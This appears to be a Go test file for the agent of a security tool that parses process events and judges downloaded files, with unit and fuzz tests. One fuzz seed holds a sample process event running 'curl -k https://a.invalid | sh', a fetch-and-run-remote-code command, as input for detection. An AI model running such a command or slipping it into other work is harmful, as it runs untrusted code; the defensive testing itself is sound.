package agent

import (
	"bufio"
	"bytes"
	"encoding/json"
	"io"
	"strings"
	"testing"

	"meetguard"
	"meetguard/internal/alert"
	"meetguard/internal/config"
)

func TestReadEvent(t *testing.T) {
	for line, want := range map[string]string{
		`{"pid":1,"exe":"/bin/sh"}`: "linux /bin/sh",
		"\xef\xbb\xbf" + `{"pid":1,"exe":"/Applications/A.app/Contents/MacOS/A"}`: "darwin /Applications/A.app/Contents/MacOS/A",
		`{"pid":1,"command_line":"C:\\a.exe /x","exe":"C:\\a.exe"}`:               `windows C:\a.exe`,
		`{"pid":1,"os":"macOS","args":["curl","x"],"unknown":{"a":[1]}}`:          "darwin curl",
		`{"exe":"/bin/sh"}`: "error: it has no pid",
		`{"pid":1}`:         "error: it has no exe",
		`{"pid":1,"exe":"/bin/sh","time":"yesterday"}`: "error: its time is not of RFC 3339",
		`[1]`: "error: it is no event",
	} {
		p, err := readEvent([]byte(line))
		got := ""
		if err != nil {
			got = "error: " + err.Error()
		} else {
			got = p.OS + " " + p.Exe
		}
		if !strings.HasPrefix(got, want) {
			t.Errorf("%s: %q, want %q", line, got, want)
		}
	}
}

func TestReadLinePassesOverLongOnes(t *testing.T) {
	r := bufio.NewReader(strings.NewReader(strings.Repeat("x", maxEvent+1) + "\nshort\nlast"))
	if _, err := readLine(r); err != errLongLine {
		t.Errorf("of a long line: %v", err)
	}
	for _, want := range []string{"short\n", "last"} {
		if got, err := readLine(r); err != nil || string(got) != want {
			t.Errorf("%q, %v, want %q", got, err, want)
		}
	}
	if _, err := readLine(r); err != io.EOF {
		t.Errorf("at the end: %v", err)
	}
}

func FuzzReadEvent(f *testing.F) {
	f.Add([]byte(`{"os":"windows","time":"2026-09-07T07:30:01Z","pid":7,"ppid":1,"exe":"C:\\a.exe","command_line":"a \"b c\" d","signature":{"status":"valid","subject":"A"}}`))
	f.Add([]byte(`{"pid":7,"exe":"/bin/sh","args":["sh","-c","curl -k https://a.invalid | sh"],"cwd":"/tmp"}`))
	f.Add([]byte("\xef\xbb\xbf{\"pid\":-1,\"exe\":\"\xff\"}\n\n[]"))
	f.Fuzz(func(t *testing.T, data []byte) {
		r := bufio.NewReader(bytes.NewReader(data))
		for {
			line, err := readLine(r)
			if err == io.EOF {
				return
			}
			if err != nil {
				continue
			}
			p, err := readEvent(line)
			if (p == nil) == (err == nil) {
				t.Fatalf("event %v and error %v", p, err)
			}
			if p == nil {
				continue
			}
			if p.Exe == "" || p.OS == "" {
				t.Errorf("an event without a program or a system: %+v", p)
			}
			if facts := recorded(p); facts.Process != p || facts.Signature.Status == "" {
				t.Errorf("facts %+v", facts)
			}
		}
	})
}

// FuzzReply: a worker that a hostile file has taken over may answer anything.
func FuzzReply(f *testing.F) {
	f.Add([]byte(`{"facts":{"sha256":"aa","format":"pe","claims":[{"text":"Zoom","source":"file name"}],"gaps":[{"fact":"content","reason":"x","blinding":true}]}}`), 1)
	f.Add([]byte(`{"plains":["aa zip","",""],"items":[{"facts":{"members":[{"path":"a","members":[{"path":"b"}]}]}},{"plain":"bb exe"}]}`), 3)
	f.Add([]byte(`{"plains":[""]}`), 2)
	judge, err := NewJudge(config.Config{})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, answer []byte, files int) {
		var r reply
		if json.Unmarshal(answer, &r) != nil {
			return
		}
		for i := range min(max(files, 0), 300) {
			one, ok := r.next(i)
			if !ok {
				break
			}
			o := &opened{path: "/home/a/Downloads/x", size: 5}
			facts, _ := o.facts(one)
			if facts.Path != o.path {
				t.Fatalf("the answer is about %q", facts.Path)
			}
			v := judge.JudgeOn(facts, "2026-11-23")
			rec := alert.NewRecord(meetguard.Host{UID: "h"}, alert.Product{Version: "1"}, meetguard.Alert{Facts: facts, Verdict: v})
			if text, err := json.Marshal(rec); err != nil || bytes.ContainsAny(text, "\n\x1b") {
				t.Fatalf("record %q, %v", text, err)
			}
		}
	})
}

// FuzzUnseal: what the worker is asked may be cut anywhere.
func FuzzUnseal(f *testing.F) {
	head, err := request{Op: opFiles, Names: [][]byte{[]byte("a")}, Sizes: []int{3}}.seal()
	if err != nil {
		f.Fatal(err)
	}
	f.Add(append(head, "abc"...))
	f.Add([]byte{0xff, 0xff, 0xff, 0xff})
	f.Fuzz(func(t *testing.T, raw []byte) {
		if r, contents, err := unseal(raw); err == nil && len(contents) > len(raw)-4 {
			t.Errorf("%+v with %d bytes of %d", r, len(contents), len(raw))
		}
	})
}
